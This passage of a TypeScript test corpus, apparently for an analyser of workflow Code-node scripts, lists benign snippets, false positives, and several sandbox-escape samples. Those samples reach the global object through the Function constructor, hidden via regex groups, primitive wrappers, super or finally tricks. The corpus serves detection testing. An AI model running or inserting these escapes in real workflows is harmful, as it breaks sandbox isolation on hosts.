    "cls": "builtin-stores",
    "code": "let h;\n'x'.replace(/(?<a>x)/, (m, p1, off, str, groups) => { groups.f = (() => 0).constructor; h = groups; return m; });\nreturn [{ json: { g: h.f('return this')() } }];",
    "why": "the groups object handed to replace's callback: the oracle obtains global object returned; reported. First finding: \"`h.f('return this')` may be the Function constructor\""
  },
  {
    "id": "caught/store-symbol-wrapper",
    "cls": "primitive-wrapper-store",
    "code": "const s = Object(Symbol('x'));\ns.f = (() => 0).constructor;\nreturn [{ json: { g: s.f('return this')() } }];",
    "why": "a Symbol wrapper object: the oracle obtains global object returned; reported. First finding: \"`s.f('return this')` may be the Function constructor\""
  },
  {
    "id": "caught/store-bigint-wrapper",
    "cls": "primitive-wrapper-store",
    "code": "const s = Object(1n);\ns.f = (() => 0).constructor;\nreturn [{ json: { g: s.f('return this')() } }];",
    "why": "a BigInt wrapper object: the oracle obtains global object returned; reported. First finding: \"`s.f('return this')` may be the Function constructor\""
  },
  {
    "id": "caught/super-assign-object",
    "cls": "scope",
    "code": "const o = { m() { super.f = (() => 0).constructor; } };\no.m();\nreturn [{ json: { g: o.f('return this')() } }];",
    "why": "super.f = x writes the receiver: the oracle obtains global object returned; reported. First finding: \"`o.f('return this')` may be the Function constructor\""
  },
  {
    "id": "caught/super-destructure-target",
    "cls": "scope",
    "code": "const o = { m() { [super.f] = [(() => 0).constructor]; } };\no.m();\nreturn [{ json: { g: o.f('return this')() } }];",
    "why": "super.f as a destructuring target: the oracle obtains global object returned; reported. First finding: \"`o.f('return this')` may be the Function constructor\""
  },
  {
    "id": "caught/static-block-this",
    "cls": "scope",
    "code": "class A { static { this.f = (() => 0).constructor; } }\nreturn [{ json: { g: A.f('return this')() } }];",
    "why": "this in a static block is the class: the oracle obtains global object returned; reported. First finding: \"`A.f('return this')` may be the Function constructor\""
  },
  {
    "id": "caught/finally-return-override",
    "cls": "control-flow",
    "code": "function f() { try { return 1; } finally { return (() => 0).constructor; } }\nreturn [{ json: { g: f()('return this')() } }];",
    "why": "a finally return overrides: the oracle obtains global object returned; reported. First finding: \"`f()('return this')` may be the Function constructor\""
  }
];

export const ROUND17_FALSE_POSITIVES: Round17FalsePositive[] = [
  {
    "id": "fp/sorted-keys-reduce",
    "code": "const sortKeys = (o) => Object.keys(o).sort().reduce((acc, k) => { acc[k] = o[k]; return acc; }, {});\nreturn items.map((i) => ({ json: sortKeys(i.json) }));",
    "why": "Copying an item's own keys after passing Object.keys(...) through an ordinary array method (sort / filter / slice) before reading and writing with them. The oracle obtains nothing and the run ends cleanly. The analysis reports 4 findings, the first: \"`return items.map((i) => ({ json: sortKeys(i.json) }));` may be Object.prototype.__defineGetter__ (a key known only at run time, or a built-in without a summary, may give it)\". Without the array method (Object.keys(o) directly) the same body is proven pure."
  },
  {
    "id": "fp/sorted-keys-loop",
    "code": "return items.map((i) => { const out = {}; for (const k of Object.keys(i.json).sort()) out[k] = i.json[k]; return { json: out }; });",
    "why": "Copying an item's own keys after passing Object.keys(...) through an ordinary array method (sort / filter / slice) before reading and writing with them. The oracle obtains nothing and the run ends cleanly. The analysis reports 4 findings, the first: \"`return items.map((i) => { const out = {}; for (const k of...` may be Object.prototype.__defineGetter__ (a key known only at run time, or a built-in without a summary, may give it)\". Without the array method (Object.keys(o) directly) the same body is proven pure."
  },
  {
    "id": "fp/keys-filter-copy",
    "code": "return items.map((i) => { const out = {}; for (const k of Object.keys(i.json).filter((k) => k !== 'email')) out[k] = i.json[k]; return { json: out }; });",
    "why": "Copying an item's own keys after passing Object.keys(...) through an ordinary array method (sort / filter / slice) before reading and writing with them. The oracle obtains nothing and the run ends cleanly. The analysis reports 4 findings, the first: \"`return items.map((i) => { const out = {}; for (const k of...` may be Object.prototype.__defineGetter__ (a key known only at run time, or a built-in without a summary, may give it)\". Without the array method (Object.keys(o) directly) the same body is proven pure."
  },
  {
    "id": "fp/keys-slice-copy",
    "code": "return items.map((i) => { const out = {}; for (const k of Object.keys(i.json).slice(0, 3)) out[k] = i.json[k]; return { json: out }; });",
    "why": "Copying an item's own keys after passing Object.keys(...) through an ordinary array method (sort / filter / slice) before reading and writing with them. The oracle obtains nothing and the run ends cleanly. The analysis reports 4 findings, the first: \"`return items.map((i) => { const out = {}; for (const k of...` may be Object.prototype.__defineGetter__ (a key known only at run time, or a built-in without a summary, may give it)\". Without the array method (Object.keys(o) directly) the same body is proven pure."
  }
];

export const ROUND17_PURE: Round17Pure[] = [
  {
    "id": "pure/queue-shift",
    "code": "const queue = items.map((i) => i.json);\nconst out = [];\nwhile (queue.length) {\n  const row = queue.shift();\n  out.push({ json: { id: row.id, name: String(row.name).toUpperCase() } });\n}\nreturn out;"
  },
  {
    "id": "pure/batch-splice",
    "code": "const rows = items.map((i) => i.json);\nconst batches = [];\nwhile (rows.length) batches.push(rows.splice(0, 1));\nreturn batches.map((b, n) => ({ json: { batch: n, ids: b.map((r) => r.id) } }));"
  },
  {
    "id": "pure/sort-top",
    "code": "const top = items.slice().sort((a, b) => b.json.score - a.json.score);\nconst best = top.shift();\nreturn [{ json: { best: best.json.name, rest: top.length } }];"
  },
  {
    "id": "pure/unshift-header",
    "code": "const lines = items.map((i) => [i.json.id, i.json.name, i.json.email].join(';'));\nlines.unshift('id;name;email');\nreturn [{ json: { csv: lines.join('\\n') } }];"
  },
  {
    "id": "pure/dispatch-switch",
    "code": "const fmt = { upper: (s) => s.toUpperCase(), lower: (s) => s.toLowerCase() };\nconst mode = $parameter.field === 'name' ? 'upper' : 'lower';\nreturn items.map((i) => ({ json: { v: fmt[mode](String(i.json.name)) } }));"
  },
  {
    "id": "pure/validation-error",
    "code": "class ValidationError extends Error { constructor(field) { super('invalid ' + field); this.name = 'ValidationError'; this.field = field; } }\nconst errors = [];\nfor (const { json } of items) { try { if (!/@/.test(json.email)) throw new ValidationError('email'); } catch (e) { if (e instanceof ValidationError) errors.push(e.field); else throw e; } }\nreturn [{ json: { errors } }];"
  },
  {
    "id": "pure/matchall-hashtags",
    "code": "const text = items.map((i) => i.json.tags.map((t) => '#' + t).join(' ')).join(' ');\nconst tags = [...text.matchAll(/#(\\w+)/g)].map((m) => m[1]);\nreturn [{ json: { tags: [...new Set(tags)] } }];"
  },
  {
    "id": "pure/currency",
    "code": "const fmt = new Intl.NumberFormat('en-US', { style: 'currency', currency: 'USD' });\nreturn items.map((i) => ({ json: { id: i.json.id, price: fmt.format(i.json.score * 1.5) } }));"
  },
  {
    "id": "pure/sleep-loop",
    "code": "const sleep = (ms) => new Promise((resolve) => setTimeout(resolve, ms));\nconst out = [];\nfor (const item of items) { await sleep(5); out.push({ json: { id: item.json.id, at: Date.now() > 0 } }); }\nreturn out;"
  },
  {
    "id": "pure/static-last-run",
    "code": "const data = $getWorkflowStaticData('global');\nconst last = data.lastId ?? 0;\nconst fresh = items.filter((i) => i.json.id > last);\nif (fresh.length) data.lastId = Math.max(...fresh.map((i) => i.json.id));\nreturn fresh;"
  },
  {
    "id": "pure/defaults-assign",
    "code": "const defaults = { status: 'new', priority: 3 };\nreturn items.map((i) => ({ json: Object.assign({}, defaults, i.json) }));"
  },
  {
    "id": "pure/range-from",
    "code": "const n = items.length;\nconst slots = Array.from({ length: n * 2 }, (_, i) => ({ slot: i, owner: items[i % n].json.name }));\nreturn slots.map((s) => ({ json: s }));"
  },
  {
    "id": "pure/base64",
    "code": "return items.map((i) => ({ json: { id: i.json.id, token: Buffer.from(i.json.email).toString('base64') } }));"
  },
  {
    "id": "pure/random-id",
    "code": "const rid = () => Math.random().toString(36).slice(2, 10);\nreturn items.map((i) => ({ json: { ...i.json, rid: rid() } }));"
  },
  {
    "id": "pure/labeled-continue",
    "code": "const out = [];\nouter: for (const { json } of items) { for (const t of json.tags) { if (t === 'logic') continue outer; } out.push({ json: { id: json.id } }); }\nreturn out;"
  },
  {
    "id": "pure/each-email-domain",
    "mode": "runOnceForEachItem",
    "code": "const [user, domain = ''] = String($json.email).split('@');\nreturn { json: { user, domain: domain.toLowerCase() } };"
  },
  {
    "id": "pure/date-iso",
    "code": "const d = new Date($now);\nd.setUTCDate(d.getUTCDate() - 7);\nreturn [{ json: { from: d.toISOString().slice(0, 10), to: new Date($now).toISOString().slice(0, 10) } }];"
  },
  {
    "id": "pure/set-subclass-counted",
    "code": "class CountingSet extends Set { add(v) { this.count = (this.count || 0) + 1; return super.add(v); } }\nconst s = new CountingSet(items.map((i) => i.json.name));\nreturn [{ json: { unique: s.size, adds: s.count } }];"
  },
  {
    "id": "pure/iterable-class",
    "code": "class Pager { constructor(rows, size) { this.rows = rows; this.size = size; } *[Symbol.iterator]() { for (let i = 0; i < this.rows.length; i += this.size) yield this.rows.slice(i, i + this.size); } }\nconst pages = [...new Pager(items.map((i) => i.json.id), 1)];\nreturn [{ json: { pages } }];"
  },
  {
    "id": "pure/reviver-dates",
    "code": "const raw = JSON.stringify(items.map((i) => ({ id: i.json.id, at: '2024-01-02T00:00:00.000Z' })));\nconst rows = JSON.parse(raw, (k, v) => (k === 'at' ? new Date(v) : v));\nreturn rows.map((r) => ({ json: { id: r.id, year: r.at.getUTCFullYear() } }));"
  },
  {
    "id": "pure/async-gen-pages",
    "code": "async function* fetchPages() { for (let p = 0; p < 2; p++) { await new Promise((r) => setTimeout(r, 1)); yield items.slice(p, p + 1); } return 'done'; }\nconst out = [];\nfor await (const page of fetchPages()) out.push(...page);\nreturn out;"
  },
  {
    "id": "pure/pick-allowed",
    "code": "const allowed = new Set(['id', 'name']);\nreturn items.map((i) => ({ json: Object.fromEntries(Object.entries(i.json).filter(([k]) => allowed.has(k))) }));"
  },
  {
    "id": "pure/diff-keys",
    "code": "const a = items[0].json, b = items[1].json;\nconst changed = Object.keys(a).filter((k) => JSON.stringify(a[k]) !== JSON.stringify(b[k]));\nreturn [{ json: { changed } }];"
  },
  {
    "id": "pure/trim-strings",
    "code": "return items.map((i) => { const out = {}; for (const [k, v] of Object.entries(i.json)) out[k] = typeof v === 'string' ? v.trim() : v; return { json: out }; });"
  },
  {
    "id": "pure/for-in-copy",
    "code": "return items.map((i) => { const out = {}; for (const k in i.json) if (Object.prototype.hasOwnProperty.call(i.json, k)) out[k] = i.json[k]; return { json: out }; });"
  },
  {
    "id": "pure/map-subclass-default",
    "code": "class DefaultMap extends Map { get(k) { if (!this.has(k)) this.set(k, []); return super.get(k); } }\nconst m = new DefaultMap();\nfor (const i of items) m.get(i.json.tags[0]).push(i.json.id);\nreturn [...m].map(([tag, ids]) => ({ json: { tag, ids } }));"
  },
  {
    "id": "pure/keys-sorted-entries",
    "code": "return items.map((i) => ({ json: { sig: Object.keys(i.json).sort().map((k) => k + '=' + JSON.stringify(i.json[k])).join('&') } }));"
  },
  {
    "id": "pure/async-retry",
    "code": "async function retry(fn, n = 3) { let last; for (let i = 0; i < n; i++) { try { return await fn(i); } catch (e) { last = e; } } throw last; }\nconst v = await retry(async (i) => { if (i < 1) throw new Error('flaky'); return i; });\nreturn [{ json: { attempts: v + 1 } }];"
  }
];
